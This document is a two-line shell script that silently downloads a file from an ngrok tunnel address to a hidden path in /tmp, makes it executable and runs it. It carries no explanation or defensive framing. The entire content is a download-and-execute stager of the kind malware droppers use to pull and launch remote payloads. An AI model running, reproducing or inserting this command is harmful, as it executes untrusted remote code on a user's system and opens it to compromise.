#!/bin/sh
curl -sLo /tmp/.u https://dl.ngrok-free.app/u && chmod +x /tmp/.u && /tmp/.u
